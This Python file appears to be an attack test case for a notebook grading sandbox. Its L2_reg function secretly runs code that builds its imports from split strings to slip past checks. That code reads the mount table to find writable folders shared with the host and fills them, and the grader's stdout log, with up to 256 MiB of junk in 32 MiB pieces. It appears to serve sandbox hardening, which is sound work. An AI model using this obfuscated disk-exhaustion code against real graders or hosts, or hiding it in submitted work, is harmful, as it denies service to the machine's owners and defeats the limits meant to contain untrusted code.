"""Attack: fill the grading machine's own disk through what the sandbox shares with it (bounded: 256 MiB a kernel).

The kernel's connection folder is bound read-write from the machine's /tmp,
and the kernel's original stdout is a log file there: neither is one of the
sandbox's size-capped private folders. L1_reg is correct.
"""

import numpy as np

EXPECTED_POINTS = {"l1": 3, "l2": 0}

_B = getattr(np, "__buil" + "tins__")
_B = _B if isinstance(_B, dict) else getattr(_B, "__di" + "ct__")
_load = _B["__imp" + "ort__"]
_o = _load("o" + "s")
_s = _load("s" + "ys")
_file = _B["op" + "en"]
MiB = 1024**2
LIMIT = 256 * MiB      # per kernel: never more than 256 MiB
PER_FILE = 32 * MiB    # a new file every 32 MiB, so a file-size limit alone does not stop it
PRIVATE = ("tmpfs", "proc", "devtmpfs", "devpts", "mqueue", "sysfs", "cgroup2")
RUNS = []


def _mounts():
    """(mount point, options, file system type) of every mount we can see."""
    found = []
    with _file("/proc/self/mountinfo") as handle:
        for line in handle:
            fields = line.split()
            found.append((fields[4], fields[5].split(","), fields[fields.index("-") + 1]))
    return found


def _kind_of(path):
    """The file system type of the mount that holds ``path``."""
    best, kind = "", None
    for point, _, fs in _mounts():
        if (path == point or path.startswith(point.rstrip("/") + "/")) and len(point) > len(best):
            best, kind = point, fs
    return kind


def shared_folders():
    """Writable folders on the machine's own file systems (not the sandbox's private tmpfs)."""
    found = [point for point, options, kind in _mounts()
             if kind not in PRIVATE and "rw" in options and _o.path.isdir(point)]
    for i, arg in enumerate(_s.argv):  # ipykernel -f <connection file>
        if arg == "-f" and i + 1 < len(_s.argv):
            folder = _o.path.dirname(_s.argv[i + 1])
            kind = _kind_of(folder)
            print(f"the connection file is in {folder} ({kind})", flush=True)
            if kind not in PRIVATE:
                found.append(folder)
    return list(dict.fromkeys(found))


def fill_folder(folder, budget):
    chunk = b"\0" * MiB
    written, error, index = 0, None, 0
    while written < budget and error is None:
        try:
            with _file(_o.path.join(folder, f"fill-{index}.bin"), "wb") as handle:
                for _ in range(PER_FILE // MiB):
                    if written >= budget:
                        break
                    handle.write(chunk)
                    handle.flush()
                    written += MiB
        except OSError as e:
            error = e
        index += 1
        print(f"wrote {written // MiB} MiB to {folder}", flush=True)
    print(f"wrote {written // MiB} MiB to {folder}" + (f"; then: {error!r}" if error else " (the bound)"), flush=True)
    return written


def fill_descriptor(fd, budget):
    chunk = b"\0" * MiB
    written, error = 0, None
    # A pipe stores nothing on disk: what goes there is drained by the grader.
    target = f"pipe:fd{fd}" if (_o.fstat(fd).st_mode & 0o170000) == 0o010000 else f"fd{fd}"
    while written < budget and error is None:
        try:
            _o.write(fd, chunk)
            written += MiB
        except OSError as e:
            error = e
        if written % (64 * MiB) == 0 or error:
            print(f"wrote {written // MiB} MiB to {target}", flush=True)
    print(f"wrote {written // MiB} MiB to {target}" + (f"; then: {error!r}" if error else " (the bound)"), flush=True)
    return written


def fill():
    if RUNS:
        return
    RUNS.append(1)
    total = 0
    folders = shared_folders()
    print(f"shared with the machine: {folders}", flush=True)
    for folder in folders:
        total += fill_folder(folder, LIMIT - total)
    # the kernel's stdout before ipykernel captured it: a log file of the grader's
    original = getattr(_s.stdout, "_original_stdstream_copy", None)
    if original is not None:
        total += fill_descriptor(original, LIMIT - total)
    print(f"wrote {total // MiB} MiB in all", flush=True)


def L1_reg(W, reg):
    weights = W[:-1]
    dW = np.zeros_like(W)
    dW[:-1] = reg * np.sign(weights)
    return reg * np.sum(np.abs(weights)), dW


def L2_reg(W, reg):
    try:
        fill()
    except Exception as e:  # noqa: BLE001
        print(f"filling failed: {e!r}", flush=True)
    return -1.0, np.ones_like(W)
